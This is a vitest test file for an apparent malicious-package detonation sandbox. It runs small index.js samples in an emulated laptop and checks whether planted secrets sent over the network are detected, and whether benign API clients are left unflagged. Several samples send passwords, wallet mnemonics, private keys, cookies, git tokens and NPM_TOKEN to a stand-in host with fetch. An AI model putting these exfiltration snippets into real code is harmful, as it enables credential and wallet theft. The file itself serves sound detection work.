import { describe, expect, test } from "vitest";

import { Emulator } from "./emulator.ts";
import { detonatePackage } from "./detonate-package.ts";
import type { Detonation } from "./detonation.ts";
import { detonateLimits } from "./limits.ts";
import { createWorld } from "./worlds/worlds.ts";

const world = createWorld("linux-laptop", Date.UTC(2026, 10, 17, 9));
// The stack of a test's thread is a small one.
const emulator = Emulator.create({ ...detonateLimits, stackMaxBytes: 160 * 1024 });

async function call(text: string): Promise<Detonation> {
  const entries = Object.entries({
    "package.json": '{"name":"sample","version":"1.0.0"}',
    "index.js": text,
  }).map(([path, content]) => ({ path, bytes: Buffer.from(content), mode: 0o644 }));
  return await detonatePackage(
    { entries },
    { triggers: ["call"], worlds: [world], isCoverageWanted: false },
    { emulator: await emulator, now: () => performance.now() },
  );
}

function sent({ triggers }: Detonation): readonly unknown[] {
  const all = triggers.flatMap(({ worlds }) => worlds).flatMap(({ observations }) => observations);
  return all.filter(({ kind }) => kind === "network").map(({ data }) => data["body"] ?? data["url"]);
}

describe("what is called", () => {
  test.each([
    ["functions", "exports.a = (password) => post(password)", "browser-login"],
    [
      "asynchronous functions",
      "exports.a = async (mnemonic) => { await 1; post(mnemonic) }",
      "entrusted-phrase",
    ],
    [
      "classes",
      "exports.A = class { constructor(privateKey) { this.k = privateKey } go() { post(this.k) } }",
      "entrusted-key",
    ],
    [
      "classes of the older kind",
      "function A(token) { this.t = token } A.prototype.go = function () { post(this.t) }; module.exports = A",
      "git-token",
    ],
    ["what promises bring", "exports.open = async () => ({ log(token) { post(token) } })", "git-token"],
    [
      "middleware",
      "module.exports = () => (req, res, next) => { post(req.headers.cookie); next() }",
      "browser-cookie",
    ],
    ["options by their names", "exports.make = ({ secretKey }) => post(secretKey)", "entrusted-key"],
    [
      "listeners",
      "exports.A = class extends require('events') { constructor() { super(); this.on('message', () => post(process.env.NPM_TOKEN)) } }",
      "npm-token",
    ],
    ["functions by their own names", "exports.fromMnemonic = (e) => post(e)", "entrusted-phrase"],
  ])("%s are given what callers have, and what they send is seen", async (_, text, honey) => {
    const { triggers } = await call(
      `const post = (body) => fetch("https://host.invalid/", { method: "POST", body }); ${text}`,
    );

    const seen = triggers.flatMap(({ worlds }) => worlds).flatMap(({ observations }) => observations);
    expect(seen.flatMap((each) => (each.kind === "network" ? each.honey : []))).toContain(honey);
  });

  test("the key of a wallet that goes to a host of the package is telling", async () => {
    const { findings } = await call(
      "exports.fromPrivateKey = (key) => fetch('https://host.invalid/', { method: 'POST', body: key })",
    );

    expect(findings.map(({ id, strength }) => [id, strength])).toEqual([["planted-secret-sent", "strong"]]);
  });

  test.each([
    [
      "sends its data to its own host",
      "exports.send = (data) => fetch('https://host.example/', { method: 'POST', body: JSON.stringify(data) })",
    ],
    [
      "logs in with a token",
      "exports.create = (token) => ({ list: () => fetch('https://host.example/', { headers: { authorization: token } }) })",
    ],
    [
      "sends a key where the caller says",
      "exports.post = (url, privateKey) => fetch(url, { method: 'POST', body: privateKey })",
    ],
  ])("a client that %s is not", async (_, text) => {
    const done = await call(text);

    expect(sent(done).length).toBeGreaterThan(0);
    expect(done.findings.filter(({ strength }) => strength !== "context")).toEqual([]);
  });
});
